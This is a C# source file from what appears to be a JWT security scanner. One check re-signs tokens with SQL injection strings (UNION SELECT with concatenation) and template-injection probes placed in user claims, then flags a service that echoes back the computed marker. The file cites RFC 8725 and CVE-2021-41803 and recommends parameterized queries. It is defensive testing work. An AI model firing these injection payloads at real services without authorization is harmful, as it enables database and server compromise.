using System.Globalization;
using CryptoAssert.Http;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// A claim that is a piece of SQL or of a template. The signature only says who wrote it down: names and addresses in a token
/// are what users typed somewhere. RFC 8725 2.9, 3.10; CVE-2021-41803. What comes back is a value that only evaluation makes.
/// </summary>
internal sealed class ClaimEvaluated : JwtAttack
{
    private static readonly (string Open, string Close)[] Templates =
        [("{{", "}}"), ("${", "}"), ("#{", "}"), ("@(", ")"), ("<%= ", " %>"), ("{", "}")];

    public override string Id => "CRY2130";

    public override JwtFamily Family => JwtFamily.Claims;

    public override JwtTier Tier => JwtTier.Validation;

    public override Severity Severity => Severity.Critical;

    public override IReadOnlyList<int> Cwe => [74, 89];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 1.2.4", "CVE-2021-41803"];

    public override string Cause => "evaluated a claim as code";

    public override string Why => "a user who chooses his own name runs SQL or template code in the service";

    public override string Fix =>
        "pass claims as parameters: FromSqlInterpolated or SqlParameter, never string concatenation or a template "
        + "compiled at run time";

    internal override Needs Needs => Needs.IssuerKey;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        var (first, second) = ($"cry{Convert.ToHexStringLower(attacker.Bytes(4))}", Convert.ToHexStringLower(attacker.Bytes(4)));
        var (factor, other) = (attacker.Random.Next(10_000, 99_999), attacker.Random.Next(10_000, 99_999));
        var product = ((long)factor * other).ToString(CultureInfo.InvariantCulture);
        string[] joins = [$"'{first}' || '{second}'", $"'{first}' + '{second}'", $"CONCAT('{first}', '{second}')"];
        foreach (var claims in new[] { ["sub"], InjectedClaims.Profile })
        {
            foreach (var joined in joins)
            {
                yield return With(claims, $"' UNION SELECT {joined} -- ", first + second);
                yield return With(claims, $"' UNION SELECT {joined}, {joined} -- ", first + second);
                yield return With(claims, $"' UNION SELECT {joined}, {joined}, {joined} -- ", first + second);
            }

            foreach (var (open, close) in Templates)
            {
                yield return With(claims, $"{open}{factor}*{other}{close}", product);
            }
        }

        Forgery With(string[] claims, string code, string marker)
        {
            var token = attacker.Issuer!.Reissue(attacker.Token, payload => InjectedClaims.Put(payload, claims, code));
            return new Forgery(token, $"{claims[0]} is {code}") { Marker = marker };
        }
    }

    internal override string? Judge(Forgery forgery, HttpAnswer answer, Reading reading, Attacker attacker) =>
        forgery.Marker is { } marker && answer.Contains(marker)
            ? $"{answer}, with {marker} in it: the service worked it out"
            : null;
}
